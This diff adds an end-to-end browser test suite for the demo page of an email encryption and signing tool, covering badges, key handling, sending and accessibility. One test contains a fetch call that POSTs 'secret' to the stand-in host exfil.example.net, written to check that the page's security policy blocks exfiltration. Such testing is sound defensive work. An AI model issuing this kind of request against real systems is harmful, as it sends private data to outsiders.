@@ -1,0 +1,450 @@
+// End-to-end tests of the demo page (www/) in headless Debian chromium via playwright-core:
+// no browser download and no network (every request that is not to the local demo server is
+// aborted and recorded). Needs the built package (make pkg) and `node scripts/demo-keys.mjs`.
+// Screenshots go to target/test-artifacts/ (not committed).
+import assert from "node:assert/strict";
+import { existsSync, mkdirSync, readFileSync } from "node:fs";
+import { dirname, join } from "node:path";
+import { fileURLToPath } from "node:url";
+import { after, before, describe, test } from "node:test";
+import { chromium } from "playwright-core";
+
+const ROOT = join(dirname(fileURLToPath(import.meta.url)), "..", "..");
+const KEYS = join(ROOT, "tests", "data", "keys");
+const ARTIFACTS = join(ROOT, "target", "test-artifacts");
+const CHROMIUM = process.env.CHROMIUM ?? "/usr/bin/chromium";
+const PASS = "correct horse battery";
+
+const { startServer } = await import(join(ROOT, "scripts", "serve.mjs"));
+
+describe("demo page", { timeout: 120_000 }, () => {
+  let server;
+  let base;
+  let browser;
+  const offsite = [];
+
+  before(async () => {
+    assert.ok(existsSync(CHROMIUM), `${CHROMIUM} missing: run scripts/setup.sh as root (installs chromium)`);
+    assert.ok(existsSync(join(ROOT, "www", "demo-messages", "manifest.json")), "run node scripts/demo-keys.mjs first");
+    ({ server, url: base } = await startServer({ host: "127.0.0.1", port: 0 }));
+    const args = process.getuid?.() === 0 ? ["--no-sandbox"] : [];
+    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args });
+    mkdirSync(ARTIFACTS, { recursive: true });
+  });
+  after(async () => {
+    await browser?.close();
+    await new Promise((resolve) => server?.close(resolve));
+  });
+
+  /** A fresh browser profile (own IndexedDB) with the network cut off except the demo server. */
+  async function newPage(options = {}) {
+    const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 1200, height: 900 }, ...options });
+    await context.route("**/*", (route) => {
+      const url = route.request().url();
+      if (url.startsWith(base) || url.startsWith("data:") || url.startsWith("blob:")) return route.continue();
+      offsite.push(url);
+      return route.abort();
+    });
+    const page = await context.newPage();
+    const errors = [];
+    page.on("pageerror", (e) => errors.push(e.message));
+    page.errors = errors;
+    await page.goto(base);
+    await page.waitForSelector("body[data-ready=true]");
+    return page;
+  }
+
+  async function createKeyring(page, { demo = true } = {}) {
+    await page.waitForSelector("#setup:not([hidden])");
+    await page.fill("#setup-pass", PASS);
+    await page.fill("#setup-pass2", PASS);
+    if (!demo) await page.uncheck("#setup-demo");
+    await page.click("#setup-form button[type=submit]");
+    await page.waitForSelector("#agent:not([hidden])", { timeout: 30_000 });
+  }
+
+  const article = (page, file) => page.locator("#articles > li").nth(Number(file.slice(0, 2)) - 1).locator("article");
+
+  test("agent view: every demo message shows its security status outside the body", async () => {
+    const page = await newPage();
+    await createKeyring(page);
+    const expect = [
+      ["01", "decrypted", "valid"],
+      ["02", "decrypted", "valid"],
+      ["03", "none", "valid"],
+      ["04", "none", "valid"],
+      ["05", "none", "invalid"],
+      ["06", "none", "unknown_signer"],
+      ["08", "none", "sender_mismatch"],
+      ["09", "no_key", "none"],
+    ];
+    for (const [n, encState, sigState] of expect) {
+      const a = article(page, n);
+      assert.equal(await a.getAttribute("data-encryption"), encState, `message ${n} encryption`);
+      assert.equal(await a.getAttribute("data-signature"), sigState, `message ${n} signature`);
+    }
+    // The badges: labels, the detail on hover (title) and on click (dialog).
+    const tampered = article(page, "05").locator('.badge[data-kind="signature"]');
+    assert.match(await tampered.textContent(), /Verification failed/);
+    const ok = article(page, "01").locator('.badge[data-kind="signature"]');
+    assert.match(await ok.textContent(), /Signature verified/);
+    assert.match(await ok.getAttribute("title"), /Signer: carol@example\.com/);
+    const lock = article(page, "01").locator('.badge[data-kind="encryption"]');
+    assert.match(await lock.textContent(), /Encrypted for you/);
+    await lock.click();
+    const dialog = page.locator("#detail-dialog");
+    await dialog.waitFor({ state: "visible" });
+    const details = await dialog.textContent();
+    assert.match(details, /Algorithm/);
+    assert.match(details, /Authenticated/);
+    assert.match(details, /Key id[A-F0-9]{16,}/);
+    await page.keyboard.press("Escape");
+    assert.match(await article(page, "09").locator(".badge").first().textContent(), /Cannot decrypt/);
+    assert.match(await article(page, "08").locator('.badge[data-kind="signature"]').textContent(), /Sender mismatch/);
+    // Attachments are links to download.
+    const link = article(page, "01").locator(".attachments a");
+    assert.equal(await link.getAttribute("download"), "invoice.csv");
+    const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
+    assert.equal(download.suggestedFilename(), "invoice.csv");
+    assert.match(readFileSync(await download.path(), "utf8"), /VPN licence/);
+    // HTML bodies: sandboxed frame, remote content blocked (CSP) and never requested.
+    const frame = article(page, "03").locator("iframe");
+    assert.equal(await frame.getAttribute("sandbox"), "");
+    assert.match(await frame.getAttribute("srcdoc"), /default-src 'none'/);
+    const inside = await (await frame.elementHandle()).contentFrame();
+    assert.match(await inside.evaluate(() => document.body.innerText), /Error 809/, "the HTML body renders");
+    assert.equal(await inside.evaluate(() => document.images[0].naturalWidth), 0, "the remote image did not load");
+    assert.ok(!offsite.some((u) => u.includes("tracker.example.net")), `remote image requested: ${offsite}`);
+    // The page's CSP: nothing can be sent to another origin, even by a script of the page.
+    const violated = await page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true });
+          fetch("https://exfil.example.net/", { method: "POST", body: "secret" }).catch(() => {});
+        }),
+    );
+    assert.equal(violated, "connect-src");
+    // Full-page screenshots leave out-of-process frames blank: the HTML article on its own.
+    await article(page, "03").screenshot({ path: join(ARTIFACTS, "agent-html-message.png") });
+    await page.waitForTimeout(300); // let the sandboxed frames paint
+    await page.screenshot({ path: join(ARTIFACTS, "agent-view.png"), fullPage: true });
+    assert.deepEqual(page.errors, []);
+    await page.context().close();
+  });
+
+  test("partially signed message is not shown as verified", async () => {
+    const page = await newPage();
+    await createKeyring(page);
+    const a = article(page, "07");
+    const sig = await a.getAttribute("data-signature");
+    const scope = await a.getAttribute("data-scope");
+    assert.ok(!(sig === "valid" && scope === "whole"), `partially signed shown as ${sig}/${scope}`);
+    const badge = a.locator('.badge[data-kind="signature"], .badge[data-kind="scope"]').first();
+    assert.doesNotMatch(await badge.textContent(), /verified/i);
+    assert.match(await badge.getAttribute("title"), /part/i, "the reason is in the tooltip");
+    await page.context().close();
+  });
+
+  test("toggles and the method switch follow ring.capabilities, with the reason as tooltip", async () => {
+    const page = await newPage();
+    await createKeyring(page);
+    // Alice and Carol have S/MIME certificates and (gpg-made, demo-keys.mjs) OpenPGP keys for
+    // the same addresses: both methods are possible and the switch picks one.
+    await page.selectOption("#c-from", "alice@example.com");
+    await page.fill("#c-to", "carol@example.com");
+    assert.equal(await page.isEnabled("#c-encrypt"), true);
+    assert.equal(await page.isEnabled("#c-sign"), true);
+    assert.equal(await page.isEnabled("input[name=c-method][value=smime]"), true);
+    assert.equal(await page.isEnabled("input[name=c-method][value=pgp]"), true);
+
+    // An unknown recipient: no encryption, the reason names them, signing still possible.
+    await page.fill("#c-to", "carol@example.com, nobody@example.net");
+    assert.equal(await page.isEnabled("#c-encrypt"), false);
+    assert.match(await page.getAttribute("#l-encrypt", "title"), /nobody@example\.net/);
+    assert.equal(await page.isEnabled("#c-sign"), true);
+
+    // alice@example.org has only an OpenPGP key: S/MIME is off, with the reason as tooltip.
+    await page.selectOption("#c-from", "alice@example.org");
+    await page.fill("#c-to", "carol@example.org");
+    assert.equal(await page.isEnabled("#c-encrypt"), true);
+    assert.equal(await page.isEnabled("input[name=c-method][value=pgp]"), true);
+    assert.equal(await page.isEnabled("input[name=c-method][value=smime]"), false);
+    assert.match(await page.getAttribute("#l-smime", "title"), /certificate for alice@example\.org was not found/);
+
+    // Dave's OpenPGP key at example.org expired: no encryption to him.
+    await page.selectOption("#c-from", "alice@example.org");
+    await page.fill("#c-to", "dave@example.org");
+    assert.equal(await page.isEnabled("#c-encrypt"), false);
+    assert.match(await page.getAttribute("#l-encrypt", "title"), /dave@example\.org/);
+
+    // Group defaults switch the toggles.
+    await page.fill("#c-to", "carol@example.org");
+    await page.selectOption("#c-group", "Security");
+    assert.equal(await page.isChecked("#c-encrypt"), true);
+    assert.equal(await page.isChecked("#c-sign"), true);
+    await page.selectOption("#c-group", "Billing");
+    assert.equal(await page.isChecked("#c-encrypt"), false);
+    assert.equal(await page.isChecked("#c-sign"), false);
+    await page.context().close();
+  });
+
+  test("send: the delivery list shows the policy fallback per recipient", async () => {
+    const page = await newPage();
+    await createKeyring(page);
+    await page.selectOption("#c-from", "alice@example.com");
+    await page.fill("#c-to", "carol@example.com, nobody@example.net");
+    assert.equal(await page.isEnabled("#c-encrypt"), false, "fallback block: no encryption");
+    await page.click("#tab-admin");
+    await page.selectOption("#p-fallback", "problem_report");
+    await page.click("#policy-form button[type=submit]");
+    await page.click("#tab-agent");
+    await page.fill("#c-to", "carol@example.com, nobody@example.net");
+    assert.equal(await page.isEnabled("#c-encrypt"), true);
+    assert.match(await page.getAttribute("#l-encrypt", "title"), /nobody@example\.net.+problem report/);
+    await page.check("#c-encrypt");
+    await page.check("#c-sign");
+    await page.fill("#c-subject", "Maintenance window");
+    await page.fill("#c-body", "The VPN is down on Sunday.");
+    await page.click("#c-send");
+    const rows = page.locator("#sent table.deliveries tbody tr");
+    await rows.first().waitFor();
+    const table = [];
+    for (let i = 0; i < (await rows.count()); i++) table.push(await rows.nth(i).locator("td").allTextContents());
+    assert.deepEqual(table.sort(), [
+      ["carol@example.com", "smime", "yes", "yes", "no"],
+      ["nobody@example.net", "none", "no", "no", "yes"],
+    ]);
+    assert.match(await page.textContent("#sent .warnings"), /nobody@example\.net/);
+    assert.equal(await page.locator("#sent pre.mime").count(), 2);
+
+    // A send that cannot work says why, next to the composer (block: no key for nobody@).
+    await page.click("#tab-admin");
+    await page.selectOption("#p-fallback", "block");
+    await page.click("#policy-form button[type=submit]");
+    await page.click("#tab-agent");
+    await page.fill("#c-to", "nobody@example.net");
+    await page.evaluate(() => {
+      const box = document.getElementById("c-encrypt");
+      box.disabled = false; // as if the toggle were stale: protect() itself refuses
+      box.checked = true;
+    });
+    await page.click("#c-send");
+    assert.match(await page.textContent("#sent .error"), /Not sent: .*nobody@example\.net.*\[recipient_key_missing\]/);
+    await page.context().close();
+  });
+
+  test("reply: encrypt + sign with an attachment, then open it from the outbox", async () => {
+    const page = await newPage();
+    await createKeyring(page);
+    await article(page, "01").getByRole("button", { name: "Reply" }).click();
+    assert.equal(await page.inputValue("#c-to"), "carol@example.com");
+    assert.equal(await page.inputValue("#c-from"), "alice@example.com");
+    assert.match(await page.inputValue("#c-subject"), /^Re: Ticket #4711/);
+    assert.match(await page.inputValue("#c-body"), /> my VPN token stopped working/);
+    await page.selectOption("#c-group", "Security");
+    assert.equal(await page.isChecked("#c-encrypt"), true);
+    assert.equal(await page.isChecked("#c-sign"), true);
+    await page.fill("#c-body", "We reset your token.\n" + (await page.inputValue("#c-body")));
+    await page.setInputFiles("#c-files", { name: "reset-steps.txt", mimeType: "text/plain", buffer: Buffer.from("1. open the app\n2. scan the code\n") });
+    await page.click("#c-send");
+    const row = page.locator("#sent table.deliveries tbody tr").first();
+    await row.waitFor();
+    assert.deepEqual(await row.locator("td").allTextContents(), ["carol@example.com", "smime", "yes", "yes", "no"]);
+    assert.match(await page.locator("#sent pre.mime").first().textContent(), /application\/pkcs7-mime/);
+
+    const sent = page.locator("#outbox li").first();
+    await sent.getByRole("button", { name: "Open" }).click();
+    const opened = sent.locator("article");
+    await opened.waitFor();
+    assert.equal(await opened.getAttribute("data-encryption"), "decrypted");
+    assert.equal(await opened.getAttribute("data-signature"), "valid");
+    assert.match(await opened.locator('.badge[data-kind="encryption"]').textContent(), /Encrypted for you/);
+    assert.match(await opened.locator('.badge[data-kind="signature"]').textContent(), /Signature verified/);
+    assert.match(await opened.locator(".body").textContent(), /We reset your token/);
+    assert.equal(await opened.locator(".attachments a").getAttribute("download"), "reset-steps.txt");
+    await page.screenshot({ path: join(ARTIFACTS, "agent-sent.png"), fullPage: true });
+
+    // The same reply with the switch on OpenPGP: PGP/MIME, opened again as signed and encrypted.
+    await page.check("input[name=c-method][value=pgp]");
+    assert.equal(await page.isChecked("#c-encrypt"), true);
+    await page.click("#c-send");
+    await page.waitForFunction(() => document.querySelectorAll("#outbox li[data-outbox]").length === 2);
+    assert.deepEqual(await page.locator("#sent table.deliveries tbody tr td").allTextContents(), ["carol@example.com", "pgp", "yes", "yes", "no"]);
+    assert.match(await page.locator("#sent pre.mime").first().textContent(), /application\/pgp-encrypted/);
+    const pgp = page.locator("#outbox li").nth(1);
+    await pgp.getByRole("button", { name: "Open" }).click();
+    const pgpOpened = pgp.locator("article");
+    await pgpOpened.waitFor();
+    assert.equal(await pgpOpened.getAttribute("data-encryption"), "decrypted");
+    assert.equal(await pgpOpened.getAttribute("data-signature"), "valid");
+    assert.equal(await pgpOpened.locator(".attachments a").getAttribute("download"), "reset-steps.txt");
+    assert.deepEqual(page.errors, []);
+    await page.context().close();
+  });
+
+  test("admin: import each key format through the file input (passphrase prompt for PKCS#12)", async () => {
+    const page = await newPage();
+    await createKeyring(page, { demo: false });
+    await page.click("#tab-admin");
+    const file = (path, name) => ({ name: name ?? path, mimeType: "application/octet-stream", buffer: readFileSync(join(KEYS, path)) });
+    // Several files at once (one sealing afterwards), each reported on its own line.
+    const plain = [
+      [file("root-ca.crt.pem"), /root-ca\.crt\.pem: imported 1 key/],
+      [file("intermediate-ca.crt.der"), /intermediate-ca\.crt\.der: imported 1 key/],
+      [file("alice-rsa2048.crt.der", "alice.crt"), /alice\.crt: imported 1 key\(s\): alice@example\.com/],
+      [file("alice-chain.p7b"), /alice-chain\.p7b: imported 3 key/],
+      [file("pgp-ed.pub.asc"), /pgp-ed\.pub\.asc: imported 1 key\(s\): pgp-ed/],
+      [file("pgp-rsa.pub.gpg"), /pgp-rsa\.pub\.gpg: imported 1 key\(s\): pgp-rsa@example\.org/],
+      [file("pgp-keyring.gpg", "keyring.pgp"), /keyring\.pgp: imported 4 key/],
+    ];
+    // Protected ones: the passphrase prompt comes up for each, in order.
+    const locked = [
+      [file("alice.p12"), "alice-pass", /alice\.p12: imported 1 key\(s\): alice@example\.com/],
+      [file("dave-p256.p12", "dave.pfx"), "dave-pass", /dave\.pfx: imported 1 key\(s\): dave@example\.com/],
+      [file("pgp-ed.sec.asc"), "pgp-ed-pass", /pgp-ed\.sec\.asc: imported 1 key\(s\): pgp-ed/],
+    ];
+    const importMsg = () => page.evaluate(() => (document.getElementById("import-msg").textContent = ""));
+    await importMsg();
+    await page.setInputFiles("#import-file", plain.map(([f]) => f));
+    await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "", null, { timeout: 30_000 });
+    const plainMsg = await page.textContent("#import-msg");
+    for (const [f, want] of plain) assert.match(plainMsg, want, f.name);
+    await importMsg();
+    await page.setInputFiles("#import-file", locked.map(([f]) => f));
+    for (const [f, pass] of locked) {
+      await page.waitForFunction(
+        (name) => document.getElementById("pass-dialog").open && document.getElementById("pass-why").textContent.startsWith(name),
+        f.name,
+        { timeout: 20_000 },
+      );
+      if (f.name === "alice.p12") {
+        // A wrong passphrase: asked again, saying so.
+        await page.fill("#pass-input", "not-it");
+        await page.click('#pass-dialog button[value="ok"]');
+        await page.waitForFunction(
+          () => document.getElementById("pass-dialog").open && /passphrase was wrong/.test(document.getElementById("pass-why").textContent),
+          null,
+          { timeout: 20_000 },
+        );
+      }
+      await page.fill("#pass-input", pass);
+      await page.click('#pass-dialog button[value="ok"]');
+    }
+    await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "", null, { timeout: 30_000 });
+    const lockedMsg = await page.textContent("#import-msg");
+    for (const [f, , want] of locked) assert.match(lockedMsg, want, f.name);
+    const rows = await page.locator("#keys tr").count();
+    assert.ok(rows >= 8, `${rows} keys listed`);
+    // The secret imports show as having secrets; a junk file is refused with a clear message.
+    assert.equal(await page.locator('#keys tr:has-text("alice@example.com") td:nth-child(6)', { hasText: "yes" }).count() >= 1, true);
+    await page.evaluate(() => (document.getElementById("import-msg").textContent = ""));
+    await page.setInputFiles("#import-file", file("junk.bin"));
+    await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "");
+    assert.match(await page.textContent("#import-msg"), /junk\.bin: not imported: .+\[/);
+    assert.deepEqual(page.errors, []);
+    await page.context().close();
+  });
+
+  test("admin: download public and passphrase-protected private keys, delete, drag and drop", async () => {
+    const page = await newPage();
+    await createKeyring(page);
+    await page.click("#tab-admin");
+    const row = page.locator("#keys tr", { has: page.locator("td:nth-child(1)", { hasText: /^S\/MIME$/ }) }).filter({ hasText: "alice@example.com" });
+    const [pub] = await Promise.all([page.waitForEvent("download"), row.getByRole("button", { name: /Download public/ }).click()]);
+    assert.equal(pub.suggestedFilename(), "alice@example.com.crt.pem");
+    assert.match(readFileSync(await pub.path(), "utf8"), /^-----BEGIN CERTIFICATE-----/);
+    await row.getByRole("button", { name: /Download private/ }).click();
+    await page.waitForSelector("#pass-dialog[open]");
+    await page.fill("#pass-input", "export-pass");
+    const [sec] = await Promise.all([page.waitForEvent("download"), page.click('#pass-dialog button[value="ok"]')]);
+    assert.equal(sec.suggestedFilename(), "alice@example.com.p12");
+    const p12 = readFileSync(await sec.path());
+    assert.ok(p12.length > 500 && p12[0] === 0x30, "a DER PKCS#12");
+
+    // Delete it, then bring it back by dropping the exported file (passphrase prompt).
+    page.once("dialog", (d) => d.accept());
+    await row.getByRole("button", { name: /Delete/ }).click();
+    await page.waitForFunction(() => !/alice@example\.com/.test([...document.querySelectorAll("#keys tr")].filter((tr) => tr.dataset.kind === "smime").map((tr) => tr.textContent).join(" ")));
+    await page.waitForSelector("#busy", { state: "hidden" });
+    const drop = await page.evaluateHandle((bytes) => {
+      const dt = new DataTransfer();
+      dt.items.add(new File([new Uint8Array(bytes)], "alice-export.pfx", { type: "application/x-pkcs12" }));
+      return dt;
+    }, [...p12]);
+    await page.evaluate(() => (document.getElementById("import-msg").textContent = ""));
+    await page.dispatchEvent("#drop", "drop", { dataTransfer: drop });
+    await page.waitForSelector("#pass-dialog[open]");
+    await page.fill("#pass-input", "export-pass");
+    await page.click('#pass-dialog button[value="ok"]');
+    await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "", null, { timeout: 20_000 });
+    assert.match(await page.textContent("#import-msg"), /alice-export\.pfx: imported .*alice@example\.com/);
+    assert.equal(await row.locator("td:nth-child(6)").textContent(), "yes", "the private key is back");
+    assert.deepEqual(page.errors, []);
+    await page.context().close();
+  });
+
+  test("reload keeps the sealed keyring; the wrong passphrase is refused", async () => {
+    const page = await newPage();
+    await createKeyring(page);
+    await page.click("#tab-admin");
+    await page.fill("#import-paste", readFileSync(join(KEYS, "pgp-ed.pub.asc"), "utf8"));
+    await page.click("#import-paste-btn");
+    await page.waitForFunction(() => /imported/.test(document.getElementById("import-msg").textContent));
+    await page.waitForSelector("#busy", { state: "hidden" });
+    const before = await page.locator("#keys tr").count();
+    // The readiness self-check and the audit log are there.
+    assert.match(await page.textContent("#check"), /alice@example\.com/);
+    assert.match(await page.textContent("#log"), /import/);
+    await page.screenshot({ path: join(ARTIFACTS, "admin-view.png"), fullPage: true });
+
+    await page.reload();
+    await page.waitForSelector("body[data-ready=true]");
+    await page.waitForSelector("#unlock:not([hidden])");
+    await page.fill("#unlock-pass", "not the passphrase");
+    await page.click("#unlock-form button[type=submit]");
+    await page.waitForFunction(() => document.getElementById("unlock-msg").textContent !== "", null, { timeout: 20_000 });
+    assert.match(await page.textContent("#unlock-msg"), /Wrong passphrase/);
+    assert.equal(await page.isVisible("#agent"), false);
+
+    await page.fill("#unlock-pass", PASS);
+    await page.click("#unlock-form button[type=submit]");
+    await page.waitForSelector("#agent:not([hidden])", { timeout: 20_000 });
+    await page.click("#tab-admin");
+    assert.equal(await page.locator("#keys tr").count(), before);
+    assert.match(await page.textContent("#keys"), /pgp-ed@example\.org/);
+
+    // Lock forgets the keys in memory: back to the unlock screen, nothing of the views shown.
+    await page.click("#lock");
+    await page.waitForSelector("#unlock:not([hidden])");
+    assert.equal(await page.isVisible("#admin"), false);
+    assert.equal(await page.isVisible("#agent"), false);
+    assert.deepEqual(page.errors, []);
+    await page.context().close();
+  });
+
+  test("accessibility: axe-core finds no WCAG 2 A/AA or best-practice violations; controls are keyboard reachable", async () => {
+    // axe-core is injected as an inline script, which the page's CSP rightly refuses.
+    const page = await newPage({ bypassCSP: true });
+    const axe = readFileSync(join(dirname(fileURLToPath(import.meta.resolve("axe-core"))), "axe.min.js"), "utf8");
+    const audit = async (name) => {
+      await page.addScriptTag({ content: axe });
+      const result = await page.evaluate(() => window.axe.run(document, { runOnly: { type: "tag", values: ["wcag2a", "wcag2aa", "best-practice"] } }));
+      const found = result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(" ")).join(", ")}`);
+      assert.deepEqual(found, [], `${name}: ${found.join("\n")}`);
+    };
+    await audit("setup");
+    await createKeyring(page);
+    await audit("agent");
+    // Keyboard: Tab reaches the composer's Send button.
+    await page.focus("#c-body");
+    let reached = false;
+    for (let i = 0; i < 12 && !reached; i++) {
+      await page.keyboard.press("Tab");
+      reached = await page.evaluate(() => document.activeElement?.id === "c-send");
+    }
+    assert.ok(reached, "Send is reachable with Tab");
+    await page.click("#tab-admin");
+    await audit("admin");
+    await page.context().close();
+  });
+});
